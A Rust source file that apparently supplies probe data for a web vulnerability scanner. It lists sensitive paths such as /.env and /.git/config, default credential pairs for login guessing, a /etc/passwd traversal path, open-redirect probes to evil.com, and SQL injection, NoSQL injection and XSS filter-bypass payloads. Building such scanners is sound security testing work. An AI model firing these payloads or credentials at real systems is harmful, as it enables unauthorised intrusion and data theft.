//! Static probe inputs: paths, headers, credentials, verbs and payloads

use crate::models::RiskLevel;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::time::Duration;

/// A file that should never be publicly served
#[derive(Debug, Clone, Copy)]
pub struct SensitiveFile {
    pub path: &'static str,
    pub description: &'static str,
    pub risk: RiskLevel,
}

pub const SENSITIVE_FILES: &[SensitiveFile] = &[
    SensitiveFile {
        path: "/.env",
        description: "Environment configuration file",
        risk: RiskLevel::High,
    },
    SensitiveFile {
        path: "/config.php",
        description: "PHP configuration file",
        risk: RiskLevel::High,
    },
    SensitiveFile {
        path: "/web.config",
        description: "IIS configuration file",
        risk: RiskLevel::High,
    },
    SensitiveFile {
        path: "/robots.txt",
        description: "Robots exclusion file",
        risk: RiskLevel::Low,
    },
    SensitiveFile {
        path: "/.git/config",
        description: "Git configuration file",
        risk: RiskLevel::High,
    },
    SensitiveFile {
        path: "/backup.sql",
        description: "Database backup file",
        risk: RiskLevel::High,
    },
    SensitiveFile {
        path: "/config.json",
        description: "JSON configuration file",
        risk: RiskLevel::Medium,
    },
    SensitiveFile {
        path: "/settings.php",
        description: "PHP settings file",
        risk: RiskLevel::High,
    },
];

pub const BACKUP_EXTENSIONS: &[&str] = &[".bak", ".old", ".backup", ".orig", "~", ".tmp", ".swp"];

/// Pages commonly left behind as editor or admin backups
pub const BACKUP_BASE_PATHS: &[&str] = &[
    "/index.php",
    "/index.html",
    "/config.php",
    "/admin.php",
    "/login.php",
    "/database.sql",
    "/backup.sql",
];

/// Directories checked for auto-generated listings
pub const LISTING_DIRECTORIES: &[&str] = &["/", "/admin", "/uploads", "/files", "/backup"];

/// A response header the target is expected to send
#[derive(Debug, Clone, Copy)]
pub struct SecurityHeader {
    pub name: &'static str,
    /// Absence is only reported for required headers
    pub required: bool,
    /// Empty means any value is acceptable
    pub accepted_values: &'static [&'static str],
    pub risk: RiskLevel,
    pub description: &'static str,
}

pub const SECURITY_HEADERS: &[SecurityHeader] = &[
    SecurityHeader {
        name: "X-Frame-Options",
        required: true,
        accepted_values: &["DENY", "SAMEORIGIN"],
        risk: RiskLevel::Medium,
        description: "Prevents clickjacking attacks",
    },
    SecurityHeader {
        name: "X-Content-Type-Options",
        required: true,
        accepted_values: &["nosniff"],
        risk: RiskLevel::Low,
        description: "Prevents MIME type sniffing",
    },
    SecurityHeader {
        name: "Strict-Transport-Security",
        required: true,
        accepted_values: &[],
        risk: RiskLevel::High,
        description: "Enforces HTTPS connections",
    },
    SecurityHeader {
        name: "Content-Security-Policy",
        required: false,
        accepted_values: &[],
        risk: RiskLevel::Medium,
        description: "Prevents XSS and data injection attacks",
    },
    SecurityHeader {
        name: "X-XSS-Protection",
        required: false,
        accepted_values: &["1; mode=block"],
        risk: RiskLevel::Low,
        description: "Enables XSS filtering in browsers",
    },
];

#[derive(Debug, Clone, Copy)]
pub struct DefaultCredential {
    pub username: &'static str,
    pub password: &'static str,
    pub context: &'static str,
}

pub const DEFAULT_CREDENTIALS: &[DefaultCredential] = &[
    DefaultCredential {
        username: "admin",
        password: "admin",
        context: "admin panel",
    },
    DefaultCredential {
        username: "root",
        password: "root",
        context: "system login",
    },
    DefaultCredential {
        username: "admin",
        password: "password",
        context: "admin panel",
    },
    DefaultCredential {
        username: "admin",
        password: "",
        context: "admin panel",
    },
    DefaultCredential {
        username: "administrator",
        password: "administrator",
        context: "admin panel",
    },
    DefaultCredential {
        username: "guest",
        password: "guest",
        context: "guest account",
    },
    DefaultCredential {
        username: "test",
        password: "test",
        context: "test account",
    },
    DefaultCredential {
        username: "user",
        password: "user",
        context: "user account",
    },
];

/// Paths probed for a login form before trying credentials
pub const LOGIN_PATHS: &[&str] = &[
    "/login",
    "/admin",
    "/admin/login",
    "/administrator",
    "/wp-admin",
    "/wp-login.php",
    "/user/login",
    "/auth/login",
    "/signin",
    "/admin.php",
    "/login.php",
    "/admin/index.php",
    "/manager/html",
    "/phpmyadmin",
];

/// Any of these in a login response means the attempt was rejected
pub const LOGIN_FAILURE_KEYWORDS: &[&str] = &[
    "invalid",
    "incorrect",
    "failed",
    "error",
    "denied",
    "unauthorized",
    "forbidden",
];

pub const LOGIN_SUCCESS_KEYWORDS: &[&str] = &[
    "dashboard",
    "welcome",
    "logout",
    "profile",
    "admin panel",
    "control panel",
    "administration",
];

#[derive(Debug, Clone, Copy)]
pub struct HttpMethodCheck {
    pub verb: &'static str,
    pub dangerous: bool,
    pub description: &'static str,
}

pub const HTTP_METHODS: &[HttpMethodCheck] = &[
    HttpMethodCheck {
        verb: "PUT",
        dangerous: true,
        description: "Allows file uploads and modifications",
    },
    HttpMethodCheck {
        verb: "DELETE",
        dangerous: true,
        description: "Allows resource deletion",
    },
    HttpMethodCheck {
        verb: "TRACE",
        dangerous: true,
        description: "Can be used for XSS attacks",
    },
    HttpMethodCheck {
        verb: "CONNECT",
        dangerous: true,
        description: "Can be used for tunneling",
    },
    HttpMethodCheck {
        verb: "PATCH",
        dangerous: false,
        description: "Allows partial resource updates",
    },
    HttpMethodCheck {
        verb: "OPTIONS",
        dangerous: false,
        description: "Reveals available methods",
    },
];

/// Stock pages left by web server and CMS installers
pub const DEFAULT_PAGES: &[&str] = &[
    "/",
    "/index.html",
    "/index.php",
    "/default.html",
    "/default.asp",
    "/welcome.html",
    "/info.php",
    "/phpinfo.php",
    "/server-info",
    "/server-status",
];

/// Paths expected to produce error pages
pub const ERROR_PATHS: &[&str] = &[
    "/nonexistent-page-12345",
    "/admin/secret",
    "/database/config",
    "/api/v1/nonexistent",
    "/../../../etc/passwd",
    "/wp-admin/nonexistent",
    "/phpmyadmin/nonexistent",
];

/// Host used as the open-redirect destination
pub const REDIRECT_CANARY_HOST: &str = "evil.com";

pub const REDIRECT_PROBES: &[(&str, &str)] = &[
    ("/redirect?url=http://evil.com", "Open redirect via url parameter"),
    ("/redirect?redirect=http://evil.com", "Open redirect via redirect parameter"),
    ("/redirect?return=http://evil.com", "Open redirect via return parameter"),
    ("/redirect?next=http://evil.com", "Open redirect via next parameter"),
    ("/login?return_to=http://evil.com", "Open redirect in login form"),
    ("/logout?redirect_uri=http://evil.com", "Open redirect in logout"),
];

/// Injection payload family
#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
#[serde(rename_all = "kebab-case")]
pub enum PayloadClass {
    ErrorBased,
    BooleanBased,
    TimeBased,
    UnionBased,
    NoSql,
    XssReflected,
    XssDom,
    XssFilterBypass,
}

impl PayloadClass {
    pub const SQL: [PayloadClass; 5] = [
        PayloadClass::ErrorBased,
        PayloadClass::BooleanBased,
        PayloadClass::TimeBased,
        PayloadClass::UnionBased,
        PayloadClass::NoSql,
    ];

    pub const XSS: [PayloadClass; 3] = [
        PayloadClass::XssReflected,
        PayloadClass::XssDom,
        PayloadClass::XssFilterBypass,
    ];

    pub fn is_xss(&self) -> bool {
        matches!(
            self,
            PayloadClass::XssReflected | PayloadClass::XssDom | PayloadClass::XssFilterBypass
        )
    }

    /// Delay the payload asks the database for, if it is a timing payload
    pub fn expected_delay(&self) -> Option<Duration> {
        match self {
            PayloadClass::TimeBased => Some(TIME_BASED_DELAY),
            _ => None,
        }
    }

    pub fn payloads(&self) -> &'static [&'static str] {
        match self {
            PayloadClass::ErrorBased => SQLI_ERROR_BASED,
            PayloadClass::BooleanBased => SQLI_BOOLEAN_BASED,
            PayloadClass::TimeBased => SQLI_TIME_BASED,
            PayloadClass::UnionBased => SQLI_UNION_BASED,
            PayloadClass::NoSql => NOSQL_PAYLOADS,
            PayloadClass::XssReflected => XSS_REFLECTED,
            PayloadClass::XssDom => XSS_DOM,
            PayloadClass::XssFilterBypass => XSS_FILTER_BYPASS,
        }
    }
}

impl fmt::Display for PayloadClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            PayloadClass::ErrorBased => "error-based",
            PayloadClass::BooleanBased => "boolean-based",
            PayloadClass::TimeBased => "time-based",
            PayloadClass::UnionBased => "union-based",
            PayloadClass::NoSql => "nosql",
            PayloadClass::XssReflected => "reflected",
            PayloadClass::XssDom => "dom",
            PayloadClass::XssFilterBypass => "filter-bypass",
        };
        f.write_str(s)
    }
}

/// Sleep requested by every time-based payload
pub const TIME_BASED_DELAY: Duration = Duration::from_secs(5);

pub const SQLI_ERROR_BASED: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1--",
    "\" OR 1=1--",
    "') OR ('1'='1",
    "\") OR (\"1\"=\"1",
    "' UNION SELECT NULL--",
    "\" UNION SELECT NULL--",
    "' AND 1=CAST((SELECT COUNT(*) FROM sysobjects) AS INT)--",
    "' OR (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(0x7e,VERSION(),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
];

pub const SQLI_BOOLEAN_BASED: &[&str] = &[
    "1' AND '1'='1",
    "1' AND '1'='2",
    "1 AND 1=1",
    "1 AND 1=2",
    "' AND SUBSTRING(VERSION(),1,1)='5",
    "' AND LENGTH(DATABASE())>0--",
    "' AND ASCII(SUBSTRING(USER(),1,1))>64--",
];

pub const SQLI_TIME_BASED: &[&str] = &[
    "'; WAITFOR DELAY '00:00:05'--",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "' OR SLEEP(5)--",
    "1'; SELECT SLEEP(5)--",
    "' AND IF(1=1,SLEEP(5),0)--",
    "'; SELECT pg_sleep(5)--",
];

pub const SQLI_UNION_BASED: &[&str] = &[
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION ALL SELECT NULL,NULL,NULL--",
    "1' UNION SELECT 1,2,3--",
    "1' UNION ALL SELECT 1,2,3,4--",
    "' UNION SELECT user(),database(),version()--",
    "' UNION SELECT table_name,column_name,1 FROM information_schema.columns--",
];

pub const NOSQL_PAYLOADS: &[&str] = &[
    "'||'1'=='1",
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "'; return true; var x='",
    "' && this.password.match(/.*/)//+%00",
    "admin'||''=='",
];

pub const XSS_REFLECTED: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "'><script>alert('XSS')</script>",
    "\"><script>alert('XSS')</script>",
    "<iframe src=javascript:alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<video><source onerror=alert('XSS')>",
    "<audio src=x onerror=alert('XSS')>",
];

pub const XSS_DOM: &[&str] = &[
    "#<script>alert('DOM_XSS')</script>",
    "#<img src=x onerror=alert('DOM_XSS')>",
    "javascript:alert('DOM_XSS')",
    "data:text/html,<script>alert('DOM_XSS')</script>",
];

pub const XSS_FILTER_BYPASS: &[&str] = &[
    "<ScRiPt>alert('XSS')</ScRiPt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=\"javascript:alert('XSS')\">",
    "<img src=`x`onerror=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<iframe srcdoc=\"<script>alert('XSS')</script>\">",
];

/// Parameters tried when none are configured or discoverable
pub const DEFAULT_SQLI_PARAMS: &[&str] = &[
    "id", "user", "username", "q", "search", "query", "page", "category", "type",
];

pub const DEFAULT_XSS_PARAMS: &[&str] = &[
    "q", "search", "query", "comment", "message", "name", "email", "content",
];

/// Markers that make a reflected payload dangerous even when partially sanitized
pub const XSS_DANGEROUS_TOKENS: &[&str] = &[
    "<script",
    "onerror",
    "onload",
    "<iframe",
    "<svg",
    "javascript:",
];

/// Column-count mismatch and driver errors raised by a UNION probe
pub const UNION_INDICATORS: &[&str] = &[
    "mysql_fetch",
    "warning: mysql",
    "supplied argument is not a valid mysql result",
    "the used select statements have a different number of columns",
];
